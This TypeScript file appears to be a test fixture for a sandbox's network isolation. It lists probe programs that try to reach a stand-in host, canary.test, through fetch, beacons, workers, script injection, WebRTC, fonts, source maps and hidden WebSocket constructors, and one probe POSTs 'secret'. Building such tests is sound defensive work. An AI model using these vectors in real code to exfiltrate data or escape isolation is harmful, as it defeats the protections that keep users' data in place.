import type { HostileProgram } from '../program.ts'

const verb = (id: string, ...expressions: readonly string[]): HostileProgram => ({
  id,
  live: true,
  ends: 'finished',
  says: ['log: tried'],
  code: [
    "const host = 'canary.test:1'",
    'const url = `http://${host}/network`',
    'const tried = async (attempt) => {',
    '  try { await Promise.race([attempt(), new Promise((yes) => setTimeout(yes, 100))]) } catch {}',
    '}',
    ...expressions.map((code) => `await tried(async () => ${code})`),
    "console.log('tried')",
  ].join('\n'),
})

/** Every API able to request something from a server. */
export const network: readonly HostileProgram[] = [
  verb(
    'fetch',
    'fetch(url)',
    "fetch(url, { mode: 'no-cors', keepalive: true })",
    'new Request(url).blob()',
  ),
  verb(
    'xhr',
    "(() => { const x = new XMLHttpRequest(); x.open('POST', url, false); x.send('secret') })()",
    "XMLHttpRequestEventTarget.constructor('x')",
  ),
  verb(
    'beacon',
    'navigator.sendBeacon(url)',
    'WorkerNavigator.prototype.sendBeacon.call(self, url)',
  ),
  verb('event-source', 'new EventSource(url)'),
  verb('import-scripts', 'importScripts(url)', 'self.importScripts("data:,1", url)'),
  verb('import', 'import(url)', 'require(url)', "setTimeout(`import('${url}')`)"),
  verb(
    'workers',
    'new Worker(url)',
    'new SharedWorker(url)',
    "new Worker(url, { type: 'module' })",
  ),
  verb(
    'streams',
    'new WebSocketStream(`ws://${host}/stream`)',
    'new WebTransport(`https://${host}/`).ready',
  ),
  verb(
    'rtc',
    "(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] }); peer.createDataChannel('x'); await peer.setLocalDescription() })()",
  ),
  verb('font', 'new FontFace("x", `url(${url})`).load()', 'fonts.load("1px x")'),
  verb(
    'markup',
    'Object.assign(new Image(), { src: url })',
    "Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })",
    "document.body.append(Object.assign(document.createElement('script'), { src: url }))",
    'createImageBitmap(url)',
  ),
  verb('cache-add', 'caches.open("x").then((cache) => cache.add(url))'),
  verb(
    'wasm',
    'WebAssembly.compileStreaming(fetch(url))',
    'WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  ),
  verb(
    'notification',
    'new Notification("x", { icon: url, image: url })',
    'registration.showNotification("x", { icon: url })',
  ),
  {
    id: 'source-map',
    live: true,
    ends: 'failed',
    // In two pieces: tools that read this file would follow it.
    code: `throw new Error('mapped')
//# ${'sourceMappingURL'}=http://canary.test:1/map
//# sourceURL=http://canary.test:1/source`,
  },
  {
    id: 'sockets-beneath',
    live: true,
    says: ['log: looked'],
    code: `const url = 'ws://canary.test:1/beneath'
const found = new Set()
const look = (value) => {
  for (let it = value; it != null && !found.has(it); it = Object.getPrototypeOf(it)) {
    found.add(it)
    for (const key of Reflect.ownKeys(it)) {
      if (key === 'constructor') look(it.constructor)
    }
  }
}
look(WebSocket)
look(WebSocket.prototype)
const mine = new WebSocket('wss://echo.example/')
look(mine)
for (const it of found) if (it !== WebSocket) try { new it(url) } catch {}
for (const it of found) try { Reflect.construct(it, [url], Object) } catch {}
for (const it of found) try { Reflect.construct(it, [url], EventTarget) } catch {}
console.log('looked')
mine.onopen = () => mine.close()`,
  },
]
